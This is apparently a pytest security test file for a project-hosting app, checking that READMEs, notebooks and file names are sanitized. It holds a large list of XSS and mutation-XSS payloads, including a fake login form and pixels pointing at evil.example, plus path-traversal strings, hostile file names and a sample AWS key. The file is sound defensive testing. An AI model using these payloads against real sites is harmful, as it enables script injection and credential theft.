"""What people put into a project is shown and never obeyed."""

from __future__ import annotations

import html.parser
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tengen_studio.context import StudioContext
from tengen_studio.pages import markdown, notebook
from tengen_studio.pages.places import within
from tengen_studio.pages.sanitize import sanitize

from ..actors import make_filled_project
from ..browser import Browser
from .conftest import World

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a target=_self rel=opener href=https://example.org>x</a>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.png)",
    "<img src=https://evil.example/pixel.png srcset='https://evil.example/2x.png 2x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "<video src=https://evil.example autoplay poster=//evil.example></video>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>@import '//evil.example'; body { display: none }</style>",
    "<p style='background:url(//evil.example);position:fixed;top:0'>x</p>",
    "<p id=main name=forms class='top head strong'>x</p>",
    "<div onclick=alert(1) onmouseover=alert(1) data-form=login>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\class{top}{x}$",
    "![$\\text{\" onerror=alert(1) x=\"}$](x.png)",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<x onfocus=alert(1) autofocus tabindex=1>",
    "<a href=x ping=//evil.example download>x</a>",
]  # fmt: skip
FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "link", "meta",
    "base", "svg", "template", "video", "audio", "source", "noscript", "textarea", "select",
    "annotation-xml", "mglyph", "frame", "portal",
}  # fmt: skip
KINDS = [
    "text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png",
    "application/javascript", "application/vnd.jupyter.widget-view+json",
]  # fmt: skip


class Nowhere:
    """Relative addresses lead to one known place."""

    def link(self, address: str) -> str | None:
        return "/inside"

    def picture(self, address: str) -> str | None:
        return "/inside.png"


class Reader(html.parser.HTMLParser):
    """Collects what a browser could act on."""

    def __init__(self, *, styled: bool) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._styled = styled

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("srcset", "ping", "formaction", "srcdoc", "name"):
                self.faults.append(f"{tag} {name}")
            if name == "style" and (
                not self._styled or re.search("url|position|@|expression", text)
            ):
                self.faults.append(f"{tag} style={value}")
            if name == "class" and not self._styled and "top" in text.split():
                self.faults.append(f"{tag} class={value}")
            if name == "id" and not text.startswith("content-"):
                self.faults.append(f"{tag} id={value}")
            if name == "href" and not re.match(r"https://|mailto:|#content-|/inside$", text):
                self.faults.append(f"{tag} href={value}")
            if name == "src" and not re.match(r"data:image/(png|jpeg|gif|webp|svg)|/inside", text):
                self.faults.append(f"{tag} src={value}")
            if name.startswith("data-"):
                self.faults.append(f"{tag} {name}")


def faults(text: str, *, styled: bool = False) -> list[str]:
    """Return everything in `text` that is not plain content."""
    reader = Reader(styled=styled)
    reader.feed(text)
    reader.close()
    return reader.faults


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("styled", [False, True])
def test_nothing_active_comes_out_of_the_sanitizer(payload: str, styled: bool) -> None:
    for text in (payload, f"<div>{payload}", f"<table><tr><td>{payload}"):
        assert faults(sanitize(text, Nowhere(), styled=styled), styled=styled) == []
        assert faults(markdown.render(text, Nowhere(), styled=styled), styled=styled) == []


@pytest.mark.parametrize("tag", ["script", "style", "iframe", "object", "template", "noscript"])
def test_what_was_meant_to_run_is_not_shown_as_text_either(tag: str) -> None:
    assert sanitize(f"<p>a</p><{tag}>let x = 1</{tag}><p>b</p>", Nowhere()) == "<p>a</p><p>b</p>"


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<math>", "</math>", "<p>", "<table>", "\n\n", "-", "`"]),
        max_size=6,
    )
)
def test_nothing_active_comes_out_of_mixtures(pieces: list[str]) -> None:
    assert faults(markdown.render("".join(pieces), Nowhere())) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_comes_out_of_a_notebook(payload: str) -> None:
    outputs: list[Any] = [
        {"output_type": "stream", "name": payload, "text": payload},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": payload},
        {"output_type": payload, "data": {"text/plain": payload, payload: payload}},
    ]
    outputs += [{"output_type": "display_data", "data": {kind: payload}} for kind in KINDS]
    code = {"cell_type": "code", "source": payload, "execution_count": payload, "outputs": outputs}
    cells = [
        code,
        {
            "cell_type": "markdown",
            "source": payload,
            "attachments": {payload: {"image/png": payload}},
        },
        {"cell_type": "raw", "source": payload, "metadata": {"raw_mimetype": "text/html"}},
        {"cell_type": payload, "source": payload},
    ]
    content = {"cells": cells, "metadata": {"language_info": {"name": payload}}, "nbformat": 4}
    document = notebook.render(json.dumps(content).encode(), Nowhere())
    body = re.search("<body>(.*)</body>", document, re.DOTALL)
    assert body and faults(body[1], styled=True) == []


async def test_a_readme_cannot_reach_the_page_around_it(
    browser: Callable[[], Browser], studio: StudioContext
) -> None:
    readme = "# Hello\n\n" + "\n\n".join(PAYLOADS)
    project = make_filled_project(studio, {"README.md": readme}, visibility="public")
    response = await browser().fetch("GET", f"tengen-studio/p/{project}")
    page = response.body.decode()
    article = re.search(r'<article class="prose">(.*?)</article>', page, re.DOTALL)
    assert article and "Hello" in article[1]
    shown = article[1].replace(f"/a%40b/tengen-studio/p/{project}", "/inside")
    assert not [fault for fault in faults(shown) if "/inside" not in fault]
    assert page.count("<script") == 1 and page.count("<form") == 0


async def test_templates_in_the_working_directory_are_left_alone(
    browser: Callable[[], Browser],
    studio: StudioContext,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name in ("notebook.html.j2", "index.html.j2", "base.html.j2", "project.html.j2", "null.j2"):
        for folder in ("", "templates", "lab", "classic", "base", "basic", "tengen"):
            target = tmp_path / folder / name
            target.parent.mkdir(exist_ok=True)
            target.write_text("HIJACKED")
    monkeypatch.chdir(tmp_path)
    files = {"README.md": "x", "a.ipynb": '{"cells": [], "metadata": {}, "nbformat": 4}'}
    project = make_filled_project(studio, files, visibility="public")
    for path in (f"p/{project}", f"p/{project}/frame/a.ipynb"):
        response = await browser().fetch("GET", f"tengen-studio/{path}")
        assert response.code == 200 and b"HIJACKED" not in response.body


async def test_trust_does_not_travel_with_a_fork(world: World, host: Browser) -> None:
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": "<script></script>"},
    }
    cell = {
        "id": "one",
        "cell_type": "code",
        "execution_count": 1,
        "source": "",
        "metadata": {"trusted": True},
        "outputs": [output],
    }
    content = {
        "cells": [cell],
        "metadata": {"trusted": True, "signature": "x"},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    files: dict[str, str | bytes] = {"train.ipynb": json.dumps(content)}
    project = make_filled_project(world.studio, files, visibility="public")
    made = await host.api("POST", f"projects/{project}/forks", {})
    response = await host.fetch("GET", f"api/contents/{made['project']['directory']}/train.ipynb")
    read = json.loads(response.body)["content"]
    assert read["cells"][0]["metadata"]["trusted"] is False


# NFC and NFD, case, trailing dots and spaces, 255 bytes, and what looks like an address.
NAMES = [
    "é.txt",
    "e\u0301.txt",
    "A.txt",
    "a.txt",
    "dots...",
    "space ",
    " space",
    "多" * 85,
    "x" * 255,
    "<img src=x onerror=alert(1)>.txt",
    "\"'><script>alert(1)<.md",
    "javascript:alert(1)",
    "%2e%2e",
    "..%2f..%2fetc",
    "#hash?query=1&version=9.txt",
    "back\\slash",
    "CON",
    "\u202egnp.exe",
    "~",
    "{{ 7 * 7 }}.txt",
]


async def test_odd_names_are_shown_and_lead_to_their_own_file(
    browser: Callable[[], Browser], studio: StudioContext
) -> None:
    files: dict[str, str | bytes] = {
        f"folder/{name}": f"content {n}" for n, name in enumerate(NAMES)
    }
    project = make_filled_project(studio, files, visibility="public")
    response = await browser().fetch("GET", f"tengen-studio/p/{project}/files/folder")
    listing = re.search(r'<ul class="files">(.*?)</ul>', response.body.decode(), re.DOTALL)
    assert listing
    base = f"/a%40b/tengen-studio/p/{project}/files/"
    links = re.findall(r'<a class="\w+" href="([^"]+)">(.*?)</a>', listing[1], re.DOTALL)
    found = {unquote(href.removeprefix(base)): html.unescape(text) for href, text in links[1:]}
    assert found == {f"folder/{name}": name for name in NAMES}
    assert not re.search(r"<(?:img|script)(?! nonce| src=\"/a%40b/)", response.body.decode())
    for number, name in enumerate(NAMES):
        [href] = [link for link, text in links if html.unescape(text) == name]
        raw = href.removeprefix("/a%40b").replace("/files/", "/raw/")
        response = await browser().fetch("GET", raw)
        assert response.body == f"content {number}".encode(), name
        assert (await browser().fetch("GET", href.removeprefix("/a%40b"))).code == 200, name


@pytest.mark.parametrize(
    ("address", "path"),
    [
        ("b.md", "docs/b.md"),
        ("./b.md#part", "docs/b.md"),
        ("../b.md?x=1", "b.md"),
        ("../../b.md", None),
        ("%2e%2e/%2e%2e/b.md", None),
        ("..%2f..%2fb.md", None),
        ("/etc/passwd", None),
        ("//evil.example/x", None),
        ("a/../../../x", None),
        ("..", None),
        (".", "docs"),
        ("a\0b", None),
        ("", None),
        ("b%20c.md", "docs/b c.md"),
    ],
)
def test_addresses_in_documents_stay_in_the_project(address: str, path: str | None) -> None:
    assert within("docs/a.md", address) == path


async def test_what_may_be_a_secret_is_not_shared_unnoticed(
    host: Browser, studio: StudioContext
) -> None:
    files: dict[str, str | bytes] = {"train.py": "AWS_KEY = 'AKIAQ7ZK3M2XWLPTJ4RV'\n"}
    project = make_filled_project(studio, files)
    for verb, part, body in (("PATCH", "publication", {"public": True}), ("POST", "links", {})):
        refusal = await host.api(verb, f"projects/{project}/{part}", body, status=409)
        assert "train.py, line 1" in refusal["message"] and "Q7ZK3M2X" not in refusal["message"]
        await host.api(verb, f"projects/{project}/{part}", body | {"despite_findings": True})
    audit = (await host.api("GET", f"projects/{project}/audit"))["items"]
    published = [row["details"] for row in audit if row["verb"] == "project.publish"]
    assert published == [{"public": "True", "despite_findings": "True"}]
